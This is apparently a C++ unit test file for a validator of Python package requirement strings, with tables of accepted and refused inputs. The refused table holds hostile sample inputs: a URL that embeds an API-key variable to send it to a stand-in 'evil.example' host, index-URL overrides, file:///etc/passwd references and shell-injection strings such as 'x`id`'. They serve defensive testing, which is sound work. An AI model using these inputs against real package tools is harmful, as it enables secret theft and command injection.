// SPDX-License-Identifier: Apache-2.0
// Requirements: what is one, what it becomes, and which rule refuses the rest.
#include "pep/requirement.hpp"

#include <doctest/doctest.h>

#include <string>
#include <vector>

namespace {

using toolpost::pep::parse_bare_name;
using toolpost::pep::parse_requirement;

struct Accepted {
  const char* input;
  const char* output;
};

struct Refused {
  std::string input;
  const char* reason;  // a part of it
};

const std::vector<Accepted> kAccepted = {
    {"requests", "requests"},
    {"Requests", "Requests"},
    {"a", "a"},
    {"A1", "A1"},
    {"0x", "0x"},
    {"zope.interface", "zope.interface"},
    {"ruamel_yaml", "ruamel_yaml"},
    {"a-b_c.d", "a-b_c.d"},
    {"a--b", "a--b"},
    {"  requests  ", "requests"},
    {"\trequests\t", "requests"},
    {"requests==2.32.0", "requests==2.32.0"},
    {"requests == 2.32.0", "requests==2.32.0"},
    {"requests>=2,<3", "requests>=2,<3"},
    {"requests >= 2 , < 3", "requests>=2,<3"},
    {"requests (>=2,<3)", "requests>=2,<3"},
    {"requests(>=2)", "requests>=2"},
    {"requests ()", "requests"},
    {"requests~=2.32", "requests~=2.32"},
    {"requests~=2.32.0", "requests~=2.32.0"},
    {"requests!=2.*", "requests!=2.*"},
    {"requests==2.32.*", "requests==2.32.*"},
    {"requests===2.32", "requests===2.32"},
    {"requests<=2", "requests<=2"},
    {"requests>2", "requests>2"},
    {"requests<2", "requests<2"},
    {"requests==v1.0", "requests==1.0"},
    {"requests==1.0RC1", "requests==1.0rc1"},
    {"requests==1.0-alpha.2", "requests==1.0a2"},
    {"requests==1.0.post1", "requests==1.0.post1"},
    {"requests==1.0-1", "requests==1.0.post1"},
    {"requests==1.0.dev3", "requests==1.0.dev3"},
    {"requests==1!2.0", "requests==1!2.0"},
    {"requests==1.0+local.1", "requests==1.0+local.1"},
    {"requests==1.0+Local-1", "requests==1.0+local.1"},
    {"requests==01.02", "requests==1.2"},
    {"requests[socks]", "requests[socks]"},
    {"requests[socks,use-chardet]", "requests[socks,use-chardet]"},
    {"requests [ socks , security ] >= 2", "requests[socks,security]>=2"},
    {"requests[]", "requests"},
    {"requests; python_version < '3.12'", "requests ; python_version < '3.12'"},
    {"requests;python_version<'3.12'", "requests ; python_version<'3.12'"},
    {"requests>=2; sys_platform == \"linux\"", "requests>=2 ; sys_platform == \"linux\""},
    {"requests ; os_name=='nt' and extra=='x'", "requests ; os_name=='nt' and extra=='x'"},
    {"requests ; (os_name=='nt' or os_name=='posix') and python_version>'3'",
     "requests ; (os_name=='nt' or os_name=='posix') and python_version>'3'"},
    {"requests ; 'linux' in sys_platform", "requests ; 'linux' in sys_platform"},
    {"requests ; sys_platform not in 'win32 cygwin'",
     "requests ; sys_platform not in 'win32 cygwin'"},
    {"requests ; platform_machine != 'arm64'", "requests ; platform_machine != 'arm64'"},
    {"requests ; implementation_name == 'cpython'", "requests ; implementation_name == 'cpython'"},
    {"requests ; python_full_version ~= '3.11.0'", "requests ; python_full_version ~= '3.11.0'"},
};

const std::vector<Refused> kRefused = {
    {"", "is empty"},
    {"   ", "is empty"},
    {std::string("a\0b", 3), "NUL"},
    {"requests\n", "line break"},
    {"requests\r\nevil", "line break"},
    {"requests\x1b[31m", "control character"},
    {"requests\x7f", "control character"},
    {"r\xc3\xa9quests", "not ASCII"},
    {"\xd1\x80\x65quests", "not ASCII"},
    {std::string(1025, 'a'), "longer than"},
    {"-r requirements.txt", "options are not accepted"},
    {"-rrequirements.txt", "options are not accepted"},
    {"-e .", "options are not accepted"},
    {"--index-url=https://evil.example", "options are not accepted"},
    {"--", "options are not accepted"},
    {"  --upgrade", "options are not accepted"},
    {"-", "options are not accepted"},
    {"@file", "argument files"},
    {"x @ https://evil.example/${MCP_API_KEY}", "variables are not expanded"},
    {"${HOME}", "variables are not expanded"},
    {"x @ https://evil.example/x.whl", "direct reference"},
    {"x@https://evil.example/x.whl", "is a URL"},
    {"x[extra] @ file:///etc/passwd", "direct reference"},
    {"x @ ./local", "direct reference"},
    {"https://evil.example/x.whl", "is a URL"},
    {"http://evil.example/x", "is a URL"},
    {"file:///etc/passwd", "is a URL"},
    {"git+https://evil.example/x.git", "is a URL"},
    {"git+ssh://git@evil.example/x", "is a URL"},
    {"git+file:/x", "is a URL"},
    {"./x", "is a path"},
    {"../x", "is a path"},
    {".", "is a path"},
    {"..", "is a path"},
    {"~/x", "is a path"},
    {"/etc/passwd", "is a path"},
    {"dir/x", "is a path"},
    {"C:\\x", "is a path"},
    {"x-1.0-py3-none-any.whl", "is a file"},
    {"x-1.0.tar.gz", "is a file"},
    {"x.ZIP", "is a file"},
    {"_x", "package name"},
    {"x_", "package name"},
    {"x-", "package name"},
    {"x.", "package name"},
    {"=1.0", "package name"},
    {"==1.0", "package name"},
    {"[extra]", "package name"},
    {std::string(201, 'a'), "package name"},
    {"x y", "version specifier"},
    {"x 1.0", "version specifier"},
    {"x=1.0", "version specifier"},
    {"x=>1.0", "version specifier"},
    {"x>=", "not a PEP 440 version"},
    {"x>=abc", "not a PEP 440 version"},
    {"x>=1.0 2.0", "not a PEP 440 version"},
    {"x>=1,", "version specifier"},
    {"x>=1,,<2", "version specifier"},
    {"x,>=1", "version specifier"},
    {"x>=1.*", "== and != only"},
    {"x~=1.*", "== and != only"},
    {"x===1.*", "== and != only"},
    {"x==1.0rc1.*", "release number only"},
    {"x==1.0.dev1.*", "release number only"},
    {"x==*", "not a PEP 440 version"},
    {"x==.*", "not a PEP 440 version"},
    {"x~=1", "two release numbers"},
    {"x>=1.0+local", "local version"},
    {"x===not_a_version", "not a PEP 440 version"},
    {"x===1,<2", "stands alone"},
    {"x (>=1", "without its ')'"},
    {"x >=1)", "not a PEP 440 version"},
    {"x[extra", "do not end"},
    {"x[extra,]", "end with a comma"},
    {"x[,extra]", "not a name"},
    {"x[a b]", "not a name"},
    {"x[-a]", "not a name"},
    {"x;", "marker"},
    {"x; python_version", "comparison operator"},
    {"x; python_version < ", "marker variable"},
    {"x; python_version < 3", "marker variable"},
    {"x; python_version < '3", "does not end"},
    {"x; os_name == 'a\\'", "backslash"},
    {"x; unknown == 'a'", "marker variable"},
    {"x; 'a' == 'b'", "needs a variable"},
    {"x; python_version < '3' and", "marker variable"},
    {"x; python_version < '3' os_name == 'nt'", "expected 'and', 'or'"},
    {"x; (python_version < '3'", "expected ')'"},
    {"x; os_name not 'nt'", "expected 'in'"},
    {"x; os_name is 'nt'", "comparison operator"},
    {"x!", "version specifier"},
    {"x$", "version specifier"},
    {"x`id`", "version specifier"},
    {"x|y", "version specifier"},
    {"x&y", "version specifier"},
    {"x%20", "version specifier"},
    {"x#y", "version specifier"},
    {"x:y", "version specifier"},
    {"x{y}", "version specifier"},
};

}  // namespace

TEST_CASE("requirement: what is accepted is written anew from its parts") {
  for (const Accepted& row : kAccepted) {
    CAPTURE(row.input);
    const auto parsed = parse_requirement(row.input);
    REQUIRE_MESSAGE(parsed.ok(), (parsed ? "" : parsed.refusal().text));
    CHECK(parsed->text() == row.output);
  }
}

TEST_CASE("requirement: the written form is accepted again and does not change") {
  for (const Accepted& row : kAccepted) {
    CAPTURE(row.input);
    const auto again = parse_requirement(row.output);
    REQUIRE(again.ok());
    CHECK(again->text() == row.output);
  }
}

TEST_CASE("requirement: each refusal names its rule") {
  for (const Refused& row : kRefused) {
    CAPTURE(row.input);
    const auto parsed = parse_requirement(row.input);
    REQUIRE_FALSE(parsed.ok());
    CAPTURE(parsed.refusal().text);
    CHECK(parsed.refusal().text.find(row.reason) != std::string::npos);
  }
}

TEST_CASE("requirement: the table has at least a hundred rows") {
  CHECK(kAccepted.size() + kRefused.size() >= 100);
}

TEST_CASE("requirement: markers may nest, but not without end") {
  const auto nested = [](int depth) {
    const auto count = static_cast<std::size_t>(depth);
    return "x; " + std::string(count, '(') + "os_name=='a'" + std::string(count, ')');
  };
  CHECK(parse_requirement(nested(32)).ok());
  const auto deep = parse_requirement(nested(33));
  REQUIRE_FALSE(deep.ok());
  CHECK(deep.refusal().text.find("too deeply") != std::string::npos);
}

TEST_CASE("bare name: a version, an extra or a marker is one thing too much") {
  CHECK(parse_bare_name("requests").ok());
  CHECK(parse_bare_name(" Zope.Interface ").value() == "Zope.Interface");
  for (const char* text :
       {"requests==1.0", "requests[socks]", "requests; os_name=='nt'", "requests >= 2"}) {
    CAPTURE(text);
    const auto name = parse_bare_name(text);
    REQUIRE_FALSE(name.ok());
    CHECK(name.refusal().text.find("only the name") != std::string::npos);
  }
  CHECK_FALSE(parse_bare_name("-r").ok());
  CHECK_FALSE(parse_bare_name("./x").ok());
  CHECK_FALSE(parse_bare_name("x_").ok());
}
